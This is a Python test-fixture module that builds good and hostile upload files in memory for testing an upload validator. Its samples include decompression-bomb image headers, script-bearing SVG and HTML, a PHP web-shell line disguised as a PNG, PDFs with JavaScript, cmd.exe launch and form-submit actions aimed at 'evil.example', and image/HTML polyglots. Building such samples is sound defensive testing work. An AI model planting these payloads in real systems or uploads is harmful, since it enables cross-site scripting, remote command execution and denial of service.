"""Files for upload tests, good and hostile, made in memory (nothing is checked in).

Hostile ones are built byte by byte where Pillow would refuse to make them: a PNG that
*declares* 30000 × 30000 pixels in a few hundred bytes is the classic decompression bomb.
"""

from __future__ import annotations

import io
import struct
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image


def png_bytes(width=40, height=30, colour=(200, 30, 30), mode="RGB", **save_options) -> bytes:
    out = io.BytesIO()
    Image.new(mode, (width, height), colour).save(out, format="PNG", **save_options)
    return out.getvalue()


def image_bytes(fmt="JPEG", width=40, height=30, colour=(20, 120, 200), mode="RGB", **save_options) -> bytes:
    out = io.BytesIO()
    Image.new(mode, (width, height), colour).save(out, format=fmt, **save_options)
    return out.getvalue()


def jpeg_with_gps(width=40, height=20, orientation=6) -> bytes:
    """A JPEG whose EXIF holds a GPS position, a camera make and a 90° orientation."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "SpyCam"
    exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (31.0, 13.0, 0.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (121.0, 28.0, 0.0)
    return image_bytes("JPEG", width, height, exif=exif.tobytes())


def _chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header declares ``width`` × ``height`` (1-bit grey); the data is a few bytes."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    data = zlib.compress(b"\x00" * 64)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def truncated_png() -> bytes:
    out = io.BytesIO()
    # Noise does not compress, so cutting the file loses real image data.
    Image.effect_noise((200, 200), 60).convert("RGB").save(out, format="PNG")
    data = out.getvalue()
    return data[: len(data) // 2]


SVG_WITH_SCRIPT = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>"""
PHP_AS_PNG = b"<?php system($_GET['c']); ?>"
HTML_AS_PNG = b"<html><body><script>alert(1)</script></body></html>"


def pdf_bytes(pages=1, *, javascript=False, attachment=False, launch=False, encrypt=False) -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=200, height=200)
    if javascript:
        script = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('hi');")}
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(script)
    if attachment:
        writer.add_attachment("payload.exe", b"MZ\x90\x00")
    if launch:
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    if encrypt:
        writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pdf_action(kind: str, **entries):
    """An action dictionary ``/S /<kind>`` with ``entries`` (names as ``/X`` strings, text as plain strings)."""
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = NameObject(value) if value.startswith("/") else TextStringObject(value)
    return action


#: Actions a stored PDF must not hold (kind, entries), each refused wherever it sits.
HOSTILE_PDF_ACTIONS = {
    "uri-javascript": ("/URI", {"URI": "javascript:app.alert(1)"}),
    "uri-web": ("/URI", {"URI": "https://evil.example/collect"}),
    "submit-form": ("/SubmitForm", {"F": "https://evil.example/collect"}),
    "reset-form": ("/ResetForm", {}),
    "import-data": ("/ImportData", {"F": "data.fdf"}),
    "launch": ("/Launch", {"F": "cmd.exe"}),
    "goto-remote": ("/GoToR", {"F": "other.pdf", "D": "chapter1"}),
    "goto-embedded": ("/GoToE", {"D": "chapter1"}),
    "rendition": ("/Rendition", {"OP": "/Play"}),
    "sound": ("/Sound", {}),
    "movie": ("/Movie", {"T": "trailer"}),
    "named-print": ("/Named", {"N": "/Print"}),
}
#: Where an action can sit: the document's open action, additional actions of the catalogue, of a
#: page and of an annotation, a link annotation's /A, a bookmark's /A, and an action's /Next.
PDF_ACTION_PLACES = ("open", "catalog-aa", "page-aa", "annotation-aa", "link", "outline", "next")


def pdf_with_action(kind: str = "/GoTo", where: str = "open", **entries) -> bytes:
    """A one-page PDF with one action of ``kind`` at ``where`` (``PDF_ACTION_PLACES``).

    ``/GoTo`` without entries goes to the first page (navigation within the document).
    """
    from pypdf import PdfWriter
    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, NumberObject

    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    if kind == "/GoTo" and not entries:
        action = _pdf_action("/GoTo")
        action[NameObject("/D")] = ArrayObject([page.indirect_reference, NameObject("/Fit")])
    else:
        action = _pdf_action(kind, **entries)
    reference = writer._add_object(action)
    rect = ArrayObject([FloatObject(10), FloatObject(10), FloatObject(90), FloatObject(30)])

    def annotation(**extra):
        annot = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): rect,
            }
        )
        annot.update({NameObject(k): v for k, v in extra.items()})
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(annot)])

    root = writer._root_object
    if where == "open":
        root[NameObject("/OpenAction")] = reference
    elif where == "catalog-aa":
        root[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): reference})
    elif where == "page-aa":
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): reference})
    elif where == "annotation-aa":
        annotation(**{"/AA": DictionaryObject({NameObject("/E"): reference})})
    elif where == "link":
        annotation(**{"/A": reference})
    elif where == "outline":
        item = DictionaryObject({NameObject("/Title"): _pdf_text("Chapter"), NameObject("/A"): reference})
        item_ref = writer._add_object(item)
        outlines = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Outlines"),
                NameObject("/First"): item_ref,
                NameObject("/Last"): item_ref,
                NameObject("/Count"): NumberObject(1),
            }
        )
        outlines_ref = writer._add_object(outlines)
        item[NameObject("/Parent")] = outlines_ref
        root[NameObject("/Outlines")] = outlines_ref
    elif where == "next":
        first = _pdf_action("/GoTo")
        first[NameObject("/D")] = ArrayObject([page.indirect_reference, NameObject("/Fit")])
        first[NameObject("/Next")] = reference
        root[NameObject("/OpenAction")] = writer._add_object(first)
    else:
        raise ValueError(where)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pdf_text(text):
    from pypdf.generic import TextStringObject

    return TextStringObject(text)


HTML_TRAILER = b"\n<html><body><script>alert(document.domain)</script></body></html>\n"


def zip_bytes(name="payload.html", content=b"<script>alert(1)</script>") -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, content)
    return out.getvalue()


def pdf_zip_polyglot(*, eof_after=True) -> bytes:
    """A PDF with a ZIP archive appended (readable by both); ``eof_after`` adds a ``%%EOF`` after the archive."""
    return pdf_bytes() + zip_bytes() + (b"\n%%EOF\n" if eof_after else b"")


# --- polyglots and other hostile files ---------------------------------------------------

HTML_PAGE = b"<html><body><script>alert(document.domain)</script></body></html>"


def _jpeg_segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def _noisy(fmt: str) -> bytes:
    """A picture of noise: several KB, so what is hidden after it is beyond a look at the first bytes."""
    out = io.BytesIO()
    Image.effect_noise((96, 72), 60).convert("RGB").save(out, format=fmt)
    return out.getvalue()


def jpeg_html_polyglot(where: str = "trailer") -> bytes:
    """A valid JPEG that is also an HTML page: after its end marker (``trailer``) or in a comment
    placed after 2 KB of metadata (``comment``), beyond what a look at the first bytes sees."""
    jpeg = _noisy("JPEG")
    if where == "trailer":
        return jpeg + HTML_PAGE
    padding = _jpeg_segment(0xE1, b"Exif\x00\x00" + b"\x00" * 2000)
    return jpeg[:2] + padding + _jpeg_segment(0xFE, HTML_PAGE) + jpeg[2:]


def png_html_polyglot(where: str = "trailer") -> bytes:
    """A valid PNG that is also an HTML page: after its end chunk (``trailer``) or in a text chunk (``text``)."""
    png = _noisy("PNG")
    if where == "trailer":
        return png + HTML_PAGE
    text = _chunk(b"tEXt", b"Comment\x00" + b" " * 2000 + HTML_PAGE)
    end = png.index(b"IEND") - 4
    return png[:end] + text + png[end:]


def webp_html_polyglot() -> bytes:
    return _noisy("WEBP") + HTML_PAGE


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose frame header declares ``width`` × ``height`` (a decompression bomb)."""
    jpeg = bytearray(image_bytes("JPEG", 64, 48))
    sof = jpeg.index(b"\xff\xc0")
    jpeg[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(jpeg)


EXE_BYTES = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200 + b"This program cannot be run in DOS mode."
PNG_MAGIC_THEN_HTML = b"\x89PNG\r\n\x1a\n" + HTML_PAGE
PDF_MAGIC_THEN_HTML = b"%PDF-1.7\n" + HTML_PAGE
SVG_WITH_BOM = b"\xef\xbb\xbf  " + SVG_WITH_SCRIPT


def padded_png(total_bytes: int) -> bytes:
    """A valid PNG padded with zeros after its end to ``total_bytes`` (for size limits)."""
    png = png_bytes(64, 48)
    return png + b"\x00" * max(0, total_bytes - len(png))


def upload(name: str, content: bytes, content_type="application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)
